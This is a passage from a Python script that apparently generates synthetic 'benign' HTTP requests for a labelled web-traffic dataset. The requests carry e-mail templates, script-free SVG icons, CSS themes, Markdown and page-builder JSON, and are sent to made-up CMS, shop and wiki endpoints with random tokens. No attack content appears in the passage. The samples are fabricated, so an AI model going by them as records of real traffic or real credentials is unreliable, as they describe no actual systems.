              '  @media only screen and (max-width:600px){ .stack{display:block!important;width:100%%!important;} .hide-mobile{display:none!important;} }\n'
              '  @media (prefers-color-scheme: dark){ .bg{background-color:#111111!important;} }\n</style>\n</head>\n')

EMAIL_BODIES = [
    '<body class="bg" style="background-color:#f4f4f4;">\n<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">\n'
    '<table role="presentation" width="600" class="stack" style="background:#ffffff;"><tr><td style="padding:24px;font-family:Arial,sans-serif;">\n'
    '<img src="https://mail.example.com/assets/logo.png" width="120" alt="Acme" style="display:block;border:0;" />\n'
    '<h1 style="font-size:22px;color:#111;">Hi {{first_name}},</h1>\n<p style="font-size:15px;line-height:22px;">Your order <strong>#{{order.number}}</strong> is on its way.</p>\n'
    '<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="{{tracking_url}}" style="height:44px;v-text-anchor:middle;width:220px;" arcsize="10%" fillcolor="#1f6feb"><center style="color:#ffffff;">Track package</center></v:roundrect><![endif]-->\n'
    '<!--[if !mso]><!--><a href="{{tracking_url}}" style="background:#1f6feb;color:#fff;padding:12px 24px;border-radius:4px;text-decoration:none;display:inline-block;">Track package</a><!--<![endif]-->\n'
    '</td></tr></table>\n<p style="font-size:12px;color:#888;"><a href="{{{unsubscribe_url}}}" style="color:#888;">Unsubscribe</a></p>\n'
    '<img src="https://mail.example.com/o/{{message_id}}.gif" width="1" height="1" alt="" style="display:none;" />\n</td></tr></table>\n</body>\n</html>',
    '<body style="margin:0;">\n<center>\n<table width="100%" cellpadding="0" cellspacing="0"><tr><td style="padding:20px;">\n'
    '<p>Hello *|FNAME|*,</p>\n<p>Our spring sale starts today. Use code <b>SPRING24</b> at checkout.</p>\n'
    '<p><a href="https://shop.example.com/sale?utm_source=newsletter&amp;utm_campaign=spring24" target="_blank">Shop the sale</a></p>\n'
    '<p style="font-size:11px;">You are receiving this because you opted in at *|LIST:URL|*. <a href="*|UNSUB|*">Unsubscribe</a> | <a href="*|UPDATE_PROFILE|*">Preferences</a></p>\n'
    '</td></tr></table>\n</center>\n</body>\n</html>',
    '<body>\n<table role="presentation" width="100%"><tr><td>\n{% if customer.vip %}<p style="color:#b08d00;">As a VIP you get free express shipping.</p>{% endif %}\n'
    '<p>Hi {{ customer.first_name | default: "there" }},</p>\n{% for item in cart.items %}<p>{{ item.title }} &times; {{ item.quantity }} &mdash; {{ item.price | money }}</p>{% endfor %}\n'
    '<p><a href="{{ checkout_url }}" style="color:#1f6feb;">Complete your purchase</a></p>\n</td></tr></table>\n</body>\n</html>',
    '<body>\n<div style="max-width:600px;margin:0 auto;font-family:Helvetica,Arial,sans-serif;">\n'
    '<p>Dear %%=v(@FirstName)=%%,</p>\n<p>Your appointment is confirmed for <strong>%%=FormatDate(@ApptDate,"dddd, MMMM d")=%%</strong>.</p>\n'
    '<p><a href="%%=RedirectTo(@CalendarLink)=%%" alias="add-to-calendar">Add to calendar</a></p>\n</div>\n</body>\n</html>',
]

MJML_SRC = ('<mjml>\n  <mj-head>\n    <mj-attributes><mj-all font-family="Inter, Arial" /></mj-attributes>\n'
            '    <mj-style inline="inline">.link-nostyle { color: inherit; text-decoration: none }</mj-style>\n  </mj-head>\n'
            '  <mj-body background-color="#f4f4f4">\n    <mj-section><mj-column>\n'
            '      <mj-image width="120px" src="https://mail.example.com/assets/logo.png" alt="Acme" />\n'
            '      <mj-text font-size="18px">Welcome aboard, {{name}}!</mj-text>\n'
            '      <mj-button background-color="#1f6feb" href="https://app.example.net/onboarding?step=1">Get started</mj-button>\n'
            '    </mj-column></mj-section>\n  </mj-body>\n</mjml>\n')

SVG_ICONS = [
    ('<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->\n'
     '<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px"\n'
     '\t viewBox="0 0 64 64" style="enable-background:new 0 0 64 64;" xml:space="preserve">\n<style type="text/css">\n\t.st0{fill:#1A1A1A;}\n\t.st1{fill:none;stroke:#FF6A00;stroke-width:3;stroke-miterlimit:10;}\n</style>\n'
     '<path class="st0" d="M32,4L4,28h8v28h16V40h8v16h16V28h8L32,4z"/>\n<circle class="st1" cx="32" cy="26" r="6"/>\n</svg>\n'),
    '<svg width="24" height="24" viewBox="0 0 24 24" fill="none" xmlns="http://www.w3.org/2000/svg">\n<path d="M3 9L12 2L21 9V20C21 20.5304 20.7893 21.0391 20.4142 21.4142C20.0391 21.7893 19.5304 22 19 22H5C4.46957 22 3.96086 21.7893 3.58579 21.4142C3.21071 21.0391 3 20.5304 3 20V9Z" stroke="currentColor" stroke-width="2" stroke-linecap="round" stroke-linejoin="round"/>\n</svg>\n',
    ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 50 50" width="50" height="50">\n  <circle cx="25" cy="25" r="20" fill="none" stroke="#1f6feb" stroke-width="5" stroke-dasharray="90 150">\n'
     '    <animateTransform attributeName="transform" type="rotate" from="0 25 25" to="360 25 25" dur="1s" repeatCount="indefinite"/>\n  </circle>\n</svg>\n'),
    ('<svg xmlns="http://www.w3.org/2000/svg" width="120" height="30" viewBox="0 0 120 30">\n  <circle cx="15" cy="15" r="15"><animate attributeName="r" from="15" to="15" begin="0s" dur="0.8s" values="15;9;15" calcMode="linear" repeatCount="indefinite"/>\n'
     '    <animate attributeName="fill-opacity" from="1" to="1" begin="0s" dur="0.8s" values="1;.5;1" calcMode="linear" repeatCount="indefinite"/></circle>\n</svg>\n'),
    ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" style="display:none">\n'
     '  <symbol id="icon-cart" viewBox="0 0 24 24"><path d="M7 18c-1.1 0-2 .9-2 2s.9 2 2 2 2-.9 2-2-.9-2-2-2zM1 2v2h2l3.6 7.59L5.25 14c-.16.28-.25.61-.25.96 0 1.1.9 2 2 2h12v-2H7.42"/></symbol>\n'
     '  <symbol id="icon-user" viewBox="0 0 24 24"><circle cx="12" cy="8" r="4"/><path d="M4 20c0-4 4-6 8-6s8 2 8 6"/></symbol>\n'
     '</svg>\n<svg class="icon"><use xlink:href="#icon-cart"></use></svg>\n'),
    ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200">\n  <defs>\n    <linearGradient id="g1" x1="0" y1="0" x2="1" y2="1"><stop offset="0%" stop-color="#ff8a00"/><stop offset="100%" stop-color="#e52e71"/></linearGradient>\n'
     '    <clipPath id="c"><circle cx="100" cy="100" r="90"/></clipPath>\n    <mask id="m"><rect width="200" height="200" fill="white"/></mask>\n  </defs>\n'
     '  <rect width="200" height="200" fill="url(#g1)" clip-path="url(#c)" mask="url(#m)"/>\n  <use href="#c" />\n</svg>\n'),
    ('<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<svg xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:svg="http://www.w3.org/2000/svg" xmlns="http://www.w3.org/2000/svg"\n'
     '   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"\n'
     '   width="48" height="48" viewBox="0 0 12.7 12.7" version="1.1" id="svg8" inkscape:version="1.3 (0e150ed6c4, 2023-07-21)" sodipodi:docname="leaf.svg">\n'
     '  <sodipodi:namedview id="base" pagecolor="#ffffff" bordercolor="#666666" inkscape:zoom="11.2" />\n'
     '  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1"><path style="fill:#2f9e44;stroke-width:0.26" d="M 1.2,11.5 C 2,5 6,1.5 11.5,1.2 11,7 7,11 1.2,11.5 Z" id="path1" /></g>\n</svg>\n'),
    ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="20" role="img" aria-label="build: passing">\n'
     '  <title>build: passing</title>\n  <linearGradient id="s" x2="0" y2="100%"><stop offset="0" stop-color="#bbb" stop-opacity=".1"/><stop offset="1" stop-opacity=".1"/></linearGradient>\n'
     '  <a target="_blank" xlink:href="https://ci.example.com/acme/widget"><rect width="90" height="20" rx="3" fill="#4c1"/>\n'
     '  <g fill="#fff" text-anchor="middle" font-family="Verdana,Geneva,DejaVu Sans,sans-serif" font-size="11"><text x="45" y="14">passing</text></g></a>\n</svg>\n'),
    ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" version="1.1" width="241px" height="61px" viewBox="-0.5 -0.5 241 61" content="&lt;mxfile host=&quot;app.diagrams.net&quot;&gt;&lt;diagram id=&quot;x&quot;&gt;ddHBDoIwDAbgp9kdthgTz4jx4okD50XmtmSsZBRFn94RIDigdbf/a9pmkE3GaJe+vJ/Ow&lt;/diagram&gt;&lt;/mxfile&gt;">\n'
     '<defs/><g><rect x="0" y="0" width="120" height="60" rx="9" fill="#dae8fc" stroke="#6c8ebf"/>\n'
     '<g transform="translate(-0.5 -0.5)"><switch><foreignObject pointer-events="none" width="100%" height="100%" requiredFeatures="http://www.w3.org/TR/SVG11/feature#Extensibility" style="overflow: visible; text-align: left;">'
     '<div xmlns="http://www.w3.org/1999/xhtml" style="display: flex; align-items: unsafe center; justify-content: unsafe center; width: 118px; height: 1px; padding-top: 30px; margin-left: 1px;">'
     '<div style="box-sizing: border-box; font-size: 0px; text-align: center;"><div style="display: inline-block; font-size: 12px; font-family: Helvetica; color: rgb(0, 0, 0);">API gateway</div></div></div>'
     '</foreignObject><text x="60" y="34" fill="rgb(0, 0, 0)" font-family="Helvetica" font-size="12px" text-anchor="middle">API gateway</text></switch></g></g></svg>\n'),
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 16 16" aria-hidden="true"><path fill-rule="evenodd" d="M8 0C3.58 0 0 3.58 0 8c0 4.42 3.58 8 8 8s8-3.58 8-8-3.58-8-8-8zm1 12H7V7h2v5zm0-6H7V4h2v2z"/></svg>',
    ('<svg xmlns="http://www.w3.org/2000/svg" width="32" height="32" viewBox="0 0 32 32"><style>@media (prefers-color-scheme: dark){.fg{fill:#fff}}</style>'
     '<rect width="32" height="32" rx="6" fill="#1f6feb"/><path class="fg" fill="#0b1f3a" d="M9 22V10h5.5a3.5 3.5 0 010 7H12v5z"/></svg>'),
    ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 20"><rect width="0" height="20" fill="#2f9e44"><animate attributeName="width" from="0" to="100" dur="2s" fill="freeze" begin="0.3s"/></rect>'
     '<set attributeName="visibility" to="visible" begin="2.3s"/></svg>'),
]

CSS_THEMES = [
    ('@import url("https://fonts.example.com/css2?family=Inter:wght@400;600;700&display=swap");\n'
     ':root{--brand:#1f6feb;--radius:8px;--font:"Inter",system-ui,-apple-system,"Segoe UI",sans-serif;}\n'
     'body{font-family:var(--font);color:#1f2328;}\n.btn-primary{background:var(--brand);border-radius:var(--radius);}\n'
     'a[href^="http"]:not([href*="example.com"])::after{content:"\\2197";margin-left:.2em;}\n'),
    ('@font-face{font-family:"Brand Sans";src:url("/assets/fonts/brand-sans.woff2") format("woff2"),url("/assets/fonts/brand-sans.woff") format("woff");'
     'font-display:swap;unicode-range:U+0000-00FF,U+0131,U+0152-0153;}\nh1,h2,h3{font-family:"Brand Sans",Georgia,serif;letter-spacing:-.01em;}\n'),
    ('@keyframes fadeIn{from{opacity:0;transform:translateY(8px)}to{opacity:1;transform:none}}\n'
     '.card{animation:fadeIn .3s ease-out both;animation-delay:calc(var(--i,0) * 60ms);}\n'
     '@media (prefers-reduced-motion: reduce){.card{animation:none}}\n'),
    ('.form-check-input:checked{background-image:url("data:image/svg+xml,%3csvg xmlns=\'http://www.w3.org/2000/svg\' viewBox=\'0 0 20 20\'%3e%3cpath fill=\'none\' stroke=\'%23fff\' stroke-linecap=\'round\' stroke-linejoin=\'round\' stroke-width=\'3\' d=\'m6 10 3 3 6-6\'/%3e%3c/svg%3e");}\n'
     'input[type="checkbox"]:checked + label{text-decoration:line-through;color:#6e7781;}\n'
     'input[type="password"]{letter-spacing:.15em;}\n'),
    ('.hero{background:linear-gradient(135deg,rgba(31,111,235,.9),rgba(131,58,180,.85)),url(/media/hero-spring.jpg) center/cover no-repeat;min-height:60vh;}\n'
     '.hero h1{color:#fff;text-shadow:0 2px 4px rgb(0 0 0 / 30%);}\n'),
    ('section.article-list>article{content-visibility:auto;contain-intrinsic-size:auto 480px;}\n'
     '@supports not (content-visibility:auto){section.article-list>article{contain:layout paint;}}\n'),
    ('@layer base,components,utilities;\n@layer components{.badge{display:inline-flex;padding:.125rem .5rem;border-radius:999px;font-size:.75rem}}\n'
     '@container sidebar (min-width: 400px){.widget{display:grid;grid-template-columns:1fr 1fr}}\n'
     '.nav:has(.dropdown[open]){z-index:20}\n'),
    ('@media (prefers-color-scheme: dark){:root{--bg:#0d1117;--fg:#e6edf3}}\nbody{background:var(--bg,#fff);color:var(--fg,#1f2328)}\n'
     'pre,code{font-family:ui-monospace,SFMono-Regular,Menlo,Consolas,monospace}\n'),
    ('[data-theme="dark"] .logo{filter:invert(1) hue-rotate(180deg)}\n[aria-current="page"]{font-weight:600;border-bottom:2px solid currentColor}\n'
     'details>summary{cursor:pointer;list-style:none}\ndetails[open]>summary::after{content:"\\2212"}\n'),
    ('.tooltip[popover]{margin:0;inset:auto;position-anchor:--trigger;top:anchor(bottom);}\n'
     '[popover]:popover-open{opacity:1;transition:opacity .2s, display .2s allow-discrete;}\n@starting-style{[popover]:popover-open{opacity:0}}\n'),
    ('.woocommerce ul.products li.product .price{color:#c92a2a;font-weight:700}\n.single-product .summary .cart .button{background:#2b8a3e!important}\n'
     '.site-header{backdrop-filter:saturate(180%) blur(8px);background:rgba(255,255,255,.8)}\n'),
    ('@page{size:A4;margin:18mm}\n@media print{nav,.no-print{display:none!important}a[href]::after{content:" (" attr(href) ")";font-size:9pt}}\n'),
]

BRAND_COLORS = ["#1f6feb", "#2B8A3E", "rgb(31 111 235 / 80%)", "hsl(210 90% 52%)", "var(--brand-primary)", "#ff6a00",
                "rebeccapurple", "#0b1f3a", "color-mix(in srgb, #1f6feb 70%, white)", "transparent"]

MD_BITS = [
    "# Getting started\n\nInstall the CLI and log in:\n\n```\nacme login --org my-team\n```\n",
    "See the [installation guide](https://docs.example.com/install) and the [FAQ](../faq.md#billing).",
    "![Architecture overview](https://files.example.com/wiki/arch-v3.png \"High-level architecture\")",
    "| Region | Latency | Status |\n|---|---:|:---:|\n| eu-west | 42 ms | :white_check_mark: |\n| us-east | 88 ms | :warning: |",
    "- [x] Draft RFC\n- [ ] Review with @mira\n- [ ] Ship behind flag `new-search`",
    "<details>\n<summary>Full log output</summary>\n\n```\n2024-05-07T10:15:33Z INFO  server started on :8080\n2024-05-07T10:15:34Z WARN  cache miss rate 12%\n```\n</details>",
    "Press <kbd>Ctrl</kbd> + <kbd>Shift</kbd> + <kbd>P</kbd> and type *Reload Window*.",
    "Fixed in #412, thanks @k-ito! :tada:",
    "Reference: RFC 6749 section 10.6[^1].\n\n[^1]: https://www.example.org/rfc/rfc6749#section-10.6",
    "<img src=\"https://files.example.com/wiki/screenshot-settings.png\" width=\"480\" alt=\"Settings page\">",
    "> **Note**\n> The old endpoint is deprecated and will be removed in v3.",
    "Read more on [our blog][blog] or subscribe via <https://blog.example.org/feed.xml>.\n\n[blog]: https://blog.example.org/",
    "Contact: [support@example.com](mailto:support@example.com) \u2022 Status: [status page](https://status.example.com/?utm_source=wiki)",
    "Line one  \nLine two<br>\nH<sub>2</sub>O and E = mc<sup>2</sup>",
    "## Changelog\n\n### 2.4.0\n* Faster search (**3x**)\n* Dark mode \u2014 finally\n* `--json` flag for `acme export`",
    "Tweet from the launch: [@acme on social](https://social.example.net/@acme/112233445566)",
]


# =========================================================================== benign generators

def ben(slug, m, u, h, b=None, cat="benign"):
    emit("benign", slug, cat, m, u, h, b)


def rich_html(rng):
    return "".join(rng.sample(RT_FRAGMENTS, rng.randint(2, 6)))


def gen_benign_content():
    r = rnd
    # --- rich-text editor HTML (TinyMCE / CKEditor) through several applications
    for i in range(30):
        html = rich_html(r)
        k = i % 6
        if k == 0:
            body = form_body([("post_title", r.choice(["Spring release notes", "Team offsite recap", "Pricing update",
                                                       "Shipping FAQ"])), ("content", html), ("post_status", "draft"),
                              ("_wpnonce", hexid(10)), ("post_ID", str(r.randint(100, 9000))), ("action", "editpost")])
            ben("richtext-html", "POST", "/wp-admin/post.php",
                browser_headers("blog.example.org", ctype="application/x-www-form-urlencoded", origin="https://blog.example.org",
                                referer="https://blog.example.org/wp-admin/post.php?post=%d&action=edit" % r.randint(100, 9000),
                                cookie="wordpress_logged_in_" + hexid(32) + "=editor%7C1715" + hexid(8)), body)
        elif k == 1:
            ben("richtext-html", "PUT", "/api/v2/help_center/articles/%d/translations/en-us" % r.randint(10 ** 9, 10 ** 10),
                api_headers("help.example.com"), jdump({"translation": {"title": "Shipping and returns", "body": html, "draft": False}}))
        elif k == 2:
            ben("richtext-html", "PUT", "/admin/api/2024-04/products/%d.json" % r.randint(10 ** 12, 10 ** 13),
                api_headers("shop.example.com", token=False, extra=[("X-Shop-Access-Token", "shpat_" + hexid(32))]),
                jdump({"product": {"id": r.randint(10 ** 9, 10 ** 10), "body_html": html, "tags": "spring, outdoor"}}))
        elif k == 3:
            ct, body = multipart([("comment[html_body]", html), ("comment[public]", "true"), ("ticket[status]", "pending")])
            ben("richtext-html", "POST", "/agent/tickets/%d/comments" % r.randint(1000, 99999),
                browser_headers("help.example.com", accept=ACCEPT_JSON, ctype=ct, origin="https://help.example.com",
                                cookie="_help_session=" + hexid(40), extra=[("X-CSRF-Token", b62(43))]), body)
        elif k == 4:
            ben("richtext-html", "POST", "/api/v1/forum/topics/%d/posts" % r.randint(100, 9999), api_headers("app.example.net"),
                jdump({"raw_html": html, "reply_to_post_number": r.choice([None, 2, 5])}))
        else:
            body = form_body([("subject", "Re: invoice question"), ("body_html", html), ("signature", "1"), ("draft_id", hexid(16))])
            ben("richtext-html", "POST", "/mail/compose/send", browser_headers(
                "mail.example.com", ctype="application/x-www-form-urlencoded", origin="https://mail.example.com",
                cookie=session_cookie("mail_sess")), body)

    # --- structured editor documents (Quill, Tiptap / ProseMirror, Editor.js, Lexical, Slate)
    for i in range(30):
        k = i % 5
        if k == 0:
            ben("editor-json", "POST", "/api/notes", api_headers("app.example.net"),
                jdump({"title": "Notes %d" % r.randint(1, 99), "content": {"ops": QUILL_OPS[i // 5 % len(QUILL_OPS)]}}))
        elif k == 1:
            ben("editor-json", "PUT", "/api/docs/%s" % hexid(10), api_headers("docs.example.com"),
                jdump({"doc": tiptap_doc(r), "version": r.randint(2, 200)}))
        elif k == 2:
            ben("editor-json", "POST", "/api/v1/posts", api_headers("blog.example.org"),
                jdump({"title": "Release 2.4", "slug": "release-2-4", "content": editorjs_doc(r)}))
        elif k == 3:
            ben("editor-json", "PATCH", "/api/v1/announcements/%d" % r.randint(1, 300), api_headers("help.example.com"),
                jdump({"editorState": json.dumps(lexical_doc(r))}))
        else:
            slate = [{"type": "heading-two", "children": [{"text": "Agenda"}]},
                     {"type": "paragraph", "children": [{"text": "Review "}, {"type": "link", "url": "https://app.example.net/boards/42",
                                                                             "children": [{"text": "board"}]}, {"text": " & plan Q3."}]},
                     {"type": "bulleted-list", "children": [{"type": "list-item", "children": [{"text": "Budget", "bold": True}]}]}]
            ben("editor-json", "PUT", "/api/pages/%s/content" % hexid(8), api_headers("app.example.net"), jdump({"value": slate}))

    # --- page-builder JSON with markup and inline styles
    for i in range(20):
        k = i % 4
        if k == 0:
            data = {"gjs-html": '<div id="i3kd" class="row"><div class="cell"><h1 id="ix9f">Summer sale</h1><p>Up to <b>40%</b> off</p>'
                                '<a href="/shop?utm_campaign=summer" class="btn" id="ib7q">Shop now</a></div></div>',
                    "gjs-css": "* { box-sizing: border-box; } body {margin: 0;}#i3kd{padding:10px;background-image:url('https://files.example.com/hero.jpg');background-size:cover;}"
                               "#ix9f{color:#ffffff;font-family:Inter, sans-serif;}@media (max-width: 768px){.cell{width:100%;display:block;}}",
                    "gjs-components": json.dumps([{"tagName": "div", "attributes": {"id": "i3kd"}, "classes": ["row"]}]),
                    "gjs-styles": json.dumps([{"selectors": ["#i3kd"], "style": {"padding": "10px"}}]),
                    "gjs-assets": json.dumps([{"type": "image", "src": "https://files.example.com/hero.jpg"}])}
            ben("page-builder", "POST", "/api/projects/%d/store" % r.randint(1, 999), api_headers("builder.example.com"), jdump(data))
        elif k == 1:
            data = {"elements": [{"id": hexid(7), "elType": "section", "settings": {"background_background": "classic",
                                  "background_image": {"url": "https://files.example.com/2024/05/bg.jpg", "id": r.randint(1, 9999)},
                                  "padding": {"unit": "px", "top": "80", "bottom": "80", "isLinked": False}},
                                  "elements": [{"id": hexid(7), "elType": "column", "settings": {"_column_size": 100},
                                                "elements": [{"id": hexid(7), "elType": "widget", "widgetType": "heading",
                                                              "settings": {"title": "Welcome to <span style=\"color:#ff6a00\">Acme</span>",
                                                                           "title_color": "#1F2937", "typography_font_family": "Inter",
                                                                           "header_size": "h1"}},
                                                             {"id": hexid(7), "elType": "widget", "widgetType": "button",
                                                              "settings": {"text": "Book a demo", "link": {"url": "https://app.example.net/demo?ref=home",
                                                                                                         "is_external": "", "nofollow": ""}}}]}]}]}
            body = form_body([("action", "elementor_ajax"), ("_nonce", hexid(10)), ("editor_post_id", str(r.randint(10, 9000))),
                              ("actions", json.dumps({"save_builder": {"action": "save_builder", "data": data}}))])
            ben("page-builder", "POST", "/wp-admin/admin-ajax.php", browser_headers(
                "blog.example.org", accept=ACCEPT_JSON, ctype="application/x-www-form-urlencoded; charset=UTF-8",
                origin="https://blog.example.org", cookie="wordpress_logged_in_" + hexid(32) + "=admin%7C1715" + hexid(8),
                extra=[("X-Requested-With", "XMLHttpRequest")]), body)
        elif k == 2:
            data = {"data": {"blocks": [{"@type": "@builder.io/sdk:Element", "id": "builder-" + hexid(32),
                                         "component": {"name": "Text", "options": {"text": "<p><strong>Free shipping</strong> on orders over $50</p>"}},
                                         "responsiveStyles": {"large": {"display": "flex", "marginTop": "20px", "fontSize": "18px",
                                                                        "color": "rgba(0, 0, 0, 0.85)"},
                                                              "small": {"fontSize": "15px"}}},
                                        {"@type": "@builder.io/sdk:Element", "id": "builder-" + hexid(32),
                                         "component": {"name": "Image", "options": {"image": "https://files.example.com/promo.webp",
                                                                                    "altText": "Promo", "aspectRatio": 0.5625}}}],
                              "title": "Promo banner", "url": "/promo"}}
            ben("page-builder", "PUT", "/api/v1/write/page/%s" % hexid(32), api_headers("builder.example.com"), jdump(data))
        else:
            sections = [{"type": "rich-text", "settings": {"heading": "Our story", "text": "<p>Founded in 2012 in <em>Utrecht</em>.</p>",
                                                          "heading_size": "h2", "color_scheme": "accent-1"}},
                        {"type": "image-with-text", "settings": {"image": "shopify://shop_images/store.jpg", "button_label": "Visit us",
                                                                "button_link": "/pages/contact", "layout": "image_first"}},
                        {"type": "custom-liquid", "settings": {"custom_liquid": "{% if customer %}<p>Welcome back, {{ customer.first_name }}!</p>{% endif %}"}}]
            ben("page-builder", "PUT", "/admin/themes/%d/assets.json" % r.randint(10 ** 9, 10 ** 10),
                api_headers("shop.example.com", token=False, extra=[("X-Shop-Access-Token", "shpat_" + hexid(32))]),
                jdump({"asset": {"key": "templates/page.about.json", "value": json.dumps({"sections": {
                    "s%d" % j: s for j, s in enumerate(sections)}, "order": ["s0", "s1", "s2"]})}}))

    # --- HTML e-mail templates
    subjects = ["Your order is on its way", "Spring sale starts now", "Items waiting in your cart", "Appointment confirmed"]
    for i in range(16):
        html = (EMAIL_HEAD % subjects[i % 4]) + EMAIL_BODIES[i % len(EMAIL_BODIES)]
        k = i % 4
        if k == 0:
            ben("email-template", "POST", "/api/v1/templates", api_headers("mail.example.com"),
                jdump({"name": "order-shipped-v%d" % r.randint(2, 9), "subject": subjects[i % 4], "html": html,
                       "text": "Hi {{first_name}}, your order is on its way: {{tracking_url}}"}))
        elif k == 1:
            body = form_body([("campaign_id", hexid(10)), ("html", html), ("plain_text", "View in browser: *|ARCHIVE|*")])
            ben("email-template", "POST", "/campaigns/content/save", browser_headers(
                "mail.example.com", accept=ACCEPT_JSON, ctype="application/x-www-form-urlencoded; charset=UTF-8",
                origin="https://mail.example.com", cookie=session_cookie("mail_sess"), extra=[("X-Requested-With", "XMLHttpRequest")]), body)
        elif k == 2:
            ben("email-template", "POST", "/api/v1/messages/test", api_headers("mail.example.com"),
                jdump({"to": ["qa@example.com"], "html": html, "merge_vars": {"first_name": "Ana", "tracking_url": "https://shop.example.com/t/8K2J"}}))
        else:
            ben("email-template", "PUT", "/api/v1/templates/%d" % r.randint(100, 999), api_headers("mail.example.com"),
                jdump({"mjml": MJML_SRC, "html": html}))

    # --- Markdown with links, images, raw HTML that wikis allow
    for i in range(26):
        md = "\n\n".join(r.sample(MD_BITS, r.randint(2, 5)))
        k = i % 4
        if k == 0:
            body = form_body([("wpTextbox1", md), ("wpSummary", r.choice(["update links", "add screenshot", "typo", ""])),
                              ("wpEditToken", hexid(32) + "+\\"), ("wpSave", "Save page"), ("wpStarttime", "20240507101533")])
            ben("markdown", "POST", "/w/index.php?title=%s&action=submit" % r.choice(["Getting_started", "Runbook/Deploys", "FAQ"]),
                browser_headers("wiki.example.org", ctype="application/x-www-form-urlencoded", origin="https://wiki.example.org",
                                cookie=session_cookie("wikiSession")), body)
        elif k == 1:
            ben("markdown", "POST", "/api/v3/repos/acme/widget/issues/%d/comments" % r.randint(1, 900),
                api_headers("app.example.net", extra=[("X-Api-Version", "2022-11-28")]), jdump({"body": md}))
        elif k == 2:
            ben("markdown", "PUT", "/api/pages/%s" % r.choice(["handbook/onboarding", "runbooks/oncall", "product/changelog"]),
                api_headers("docs.example.com"), jdump({"format": "markdown", "content": md, "message": "docs: update"}))
        else:
            ben("markdown", "POST", "/api/v1/answers", api_headers("qa.example.net"),
                jdump({"question_id": r.randint(10000, 99999), "body_markdown": md}))

    # --- SVG icon uploads without script
    up = [("files.example.com", "/api/upload"), ("builder.example.com", "/api/media"), ("wiki.example.org", "/wiki/Special:Upload"),
          ("app.example.net", "/api/v2/workspaces/12/icon")]
    names = ["icon-home.svg", "logo.svg", "spinner.svg", "loader-dots.svg", "sprite.svg", "gradient-badge.svg", "leaf.svg",
             "build-passing.svg", "architecture.drawio.svg", "info.svg", "favicon.svg", "progress.svg"]
    for i, svg in enumerate(SVG_ICONS):
        host, path = up[i % len(up)]
        ct, body = multipart([("file", names[i], "image/svg+xml", svg), ("alt", names[i].split(".")[0].replace("-", " "))])
        ben("svg-upload", "POST", path, browser_headers(host, accept=ACCEPT_JSON, ctype=ct, origin="https://" + host,
                                                        cookie=session_cookie()), body)
    for i in range(4):
        svg = SVG_ICONS[(i * 3 + 1) % len(SVG_ICONS)]
        ben("svg-upload", "PUT", "/uploads/%s/%s.svg?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Expires=900&X-Amz-Signature=%s"
            % (hexid(8), hexid(12), hexid(64)),
            [["Host", "files.example.com"], ["User-Agent", r.choice(UAS)], ["Accept", "*/*"], ["Content-Type", "image/svg+xml"],
             ["Origin", "https://builder.example.com"]], svg)

    # --- CSS themes and colour values
    for i, css in enumerate(CSS_THEMES):
        k = i % 3
        if k == 0:
            body = form_body([("wp_customize", "on"), ("customized", json.dumps({"custom_css[twentytwentyfour]": css})),
                              ("nonce", hexid(10)), ("customize_theme", "twentytwentyfour")])
            ben("css-theme", "POST", "/wp-admin/admin-ajax.php?action=customize_save", browser_headers(
                "blog.example.org", accept=ACCEPT_JSON, ctype="application/x-www-form-urlencoded; charset=UTF-8",
                origin="https://blog.example.org", cookie="wordpress_logged_in_" + hexid(32) + "=admin%7C1715" + hexid(8)), body)
        elif k == 1:
            ben("css-theme", "PUT", "/api/sites/%d/theme" % r.randint(100, 999), api_headers("builder.example.com"),
                jdump({"brandColor": r.choice(BRAND_COLORS), "fontFamily": "Inter", "customCss": css}))
        else:
            ben("css-theme", "PUT", "/api/v2/help_center/themes/%s/files/style.css" % hexid(8), api_headers(
                "help.example.com", ctype="text/css"), css)
    for i in range(8):
        c = BRAND_COLORS[i % len(BRAND_COLORS)]
        if i % 2:
            ben("css-theme", "GET", "/u/%s?" % r.choice(["mira", "tom_b"]) + qs([("accent", c), ("tab", "posts")], ENCODERS[i % 3]),
                browser_headers("app.example.net"))
        else:
            body = form_body([("signature_name", r.choice(["Alex", "Sam Lee"])), ("signature_color", c), ("_token", b62(40))])
            ben("css-theme", "POST", "/settings/signature", browser_headers(
                "mail.example.com", ctype="application/x-www-form-urlencoded", origin="https://mail.example.com",
                cookie=session_cookie("mail_sess")), body)

    # --- front-end error reports, CSP / Reporting API reports
    errors = [
        ("TypeError", "Cannot read properties of undefined (reading 'map')",
         "TypeError: Cannot read properties of undefined (reading 'map')\n    at OrderList (https://app.example.net/static/js/main.3f2a1c.js:2:48213)\n    at renderWithHooks (https://app.example.net/static/js/vendor.91ab.js:2:112034)\n    at HTMLUnknownElement.callCallback (https://app.example.net/static/js/vendor.91ab.js:2:98311)"),
        ("SyntaxError", "Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON",
         "SyntaxError: Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON\n    at JSON.parse (<anonymous>)\n    at Response.json (https://shop.example.com/assets/app-4c1d.js:1:9912)"),
        ("ReferenceError", "$ is not defined",
         "ReferenceError: $ is not defined\n    at HTMLDocument.<anonymous> (https://blog.example.org/wp-content/themes/acme/js/menu.js?ver=6.5.3:12:5)"),
